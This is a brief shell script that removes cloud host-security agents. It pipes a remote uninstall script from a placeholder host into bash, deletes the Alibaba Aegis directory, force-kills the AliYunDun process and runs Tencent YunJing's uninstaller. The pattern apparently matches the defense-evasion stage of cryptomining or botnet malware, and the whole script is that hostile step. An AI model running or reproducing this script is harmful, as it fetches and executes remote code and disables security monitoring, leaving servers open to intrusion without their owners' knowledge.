#!/bin/sh
if [ -d /usr/local/aegis ]; then
  curl -s http://update.example.invalid/aegis/uninstall.sh | bash
  rm -rf /usr/local/aegis
fi
pkill -9 AliYunDun
/usr/local/qcloud/YunJing/uninst.sh
